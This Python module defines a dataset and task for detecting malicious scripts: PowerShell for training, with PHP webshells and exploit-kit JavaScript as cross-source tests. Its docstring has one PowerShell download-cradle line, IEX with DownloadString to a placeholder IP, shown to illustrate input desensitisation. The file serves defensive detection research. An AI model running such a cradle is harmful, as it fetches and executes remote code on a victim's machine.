"""Malicious script detection: PowerShell (MPSD) for training; JS and PHP as cross-source tests.

* train/val/test: ``powershell_mpsd`` (dedupe on sha256, hashes in both classes dropped,
  stratified 80/10/10, seed 0: ``secllm.data.sources.powershell_mpsd``).
* ``test:php_webshell``: PHP webshells vs benign WordPress core files (eval only; 377 files).
* ``test:js_malicious``: exploit-kit JavaScript/HTML (positives only) plus, when the machine has
  them, benign JavaScript libraries shipped by Debian under ``/usr/share/javascript`` (jQuery,
  underscore, ...). Without those, the set has no benign rows: only recall means anything.

Shortcut caveat (EVALUATION.md, "spurious correlations"): in every set benign and malicious files
come from different places (GitHub modules vs download cradles; WordPress vs webshell kits), so a
model can learn *style* or *length* instead of maliciousness. The ``length-only`` baseline and the
cross-language tests are there to show how much of a score that explains.

    >>> SPECS[0].prepare("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')")
    "IEX (New-Object Net.WebClient).DownloadString('http://<ipv4>/a')"
"""

from __future__ import annotations

import gzip
import io
import json
import random
from pathlib import Path
from typing import Any

from secllm.data.records import Record
from secllm.data.split import dedupe
from secllm.tasks.registry import TaskSpec, finalize_splits, prepare_text, splits_from_records

LABELS = ("benign", "malicious")
HEAD_CHARS = 4096          # the model reads ~128 tokens; preparing more only costs time
BENIGN_JS_DIR = Path("/usr/share/javascript")


def prep(text: str) -> str:
    """The first ``HEAD_CHARS`` characters, desensitised (as the corpus prepares scripts)."""
    return prepare_text(text[:HEAD_CHARS], "script")


def _jsonl(path: Path) -> list[dict]:
    with io.TextIOWrapper(gzip.open(path, "rb"), encoding="utf-8", errors="replace") as f:
        return [json.loads(ln) for ln in f if ln.strip()]


def php_webshell(root: Path) -> list[Record]:
    """1book PHP: ``webshell`` → malicious, WordPress → benign; dedupe on sha256; all test."""
    rows = dedupe(_jsonl(root / "php_webshell_1book" / "php_webshell_vs_wordpress.jsonl.gz"),
                  key=lambda r: r["sha256"])
    return [Record(id=f"php:{r['sha256'][:16]}", modality="script", text=r["text"],
                   label="benign" if r["label"] == "benign" else "malicious", source="php_webshell_1book",
                   meta={"split": "test:php_webshell", "family": r.get("family")}) for r in rows]


def benign_js(directory: Path = BENIGN_JS_DIR, limit: int = 300) -> list[Record]:
    """Benign JavaScript files of Debian packages (seeded sample of ``limit``), if installed."""
    from secllm.data.readers import read_script_files

    if not directory.is_dir():
        return []
    files = sorted(p for p in directory.rglob("*.js") if p.is_file())
    if len(files) > limit:
        files = sorted(random.Random(0).sample(files, limit))
    recs = [r for r in read_script_files(files, source="debian-js") if not r.error]
    recs = dedupe(recs, key=lambda r: r.meta.get("sha256"))
    for r in recs:
        r.label = "benign"
        r.meta["split"] = "test:js_malicious"
    return recs


def load(root: Path, *, js_benign_dir: Path | None = BENIGN_JS_DIR) -> dict[str, Any]:
    from secllm.data.sources import js_malicious, powershell_mpsd

    recs = powershell_mpsd(root)
    extra: list[Record] = []
    if (root / "php_webshell_1book").is_dir():
        extra += php_webshell(root)
    if (root / "js_malicious_geeksonsecurity").is_dir():
        js = js_malicious(root)
        for r in js:                # all of it is a cross-source test: nothing of it is trained on
            r.meta["split"] = "test:js_malicious"
        extra += js + (benign_js(js_benign_dir) if js_benign_dir else [])
    rows, dropped = splits_from_records(recs + extra, prep)
    out = finalize_splits(rows, modality="script")
    out["_info"]["dropped"]["read"] = dict(dropped)
    return out


SPECS = [TaskSpec(
    name="script", modality="script", labels=LABELS, benign_label="benign", loader=load,
    split_rule="MPSD PowerShell: dedupe on sha256, drop hashes labelled both ways, stratified 80/10/10 "
               "(seed 0). Cross-source tests (never trained on): PHP webshells vs WordPress; malicious "
               "JS (+ Debian's benign JS libraries when installed)",
    baselines=("tfidf-lr", "length-only"), prepare=prep, input_kind="text", max_item_chars=4 << 20,
    description="script text (PowerShell; JS/PHP cross-source) → benign / malicious",
    caveats=("benign and malicious files come from different sources in every set: style and length "
             "are shortcuts (compare with length-only)",
             f"the model reads the first ~128 tokens of the first {HEAD_CHARS} characters only",
             "test:js_malicious mixes sources (exploit kits vs Debian libraries); without the Debian "
             "files it has no benign rows"),
)]
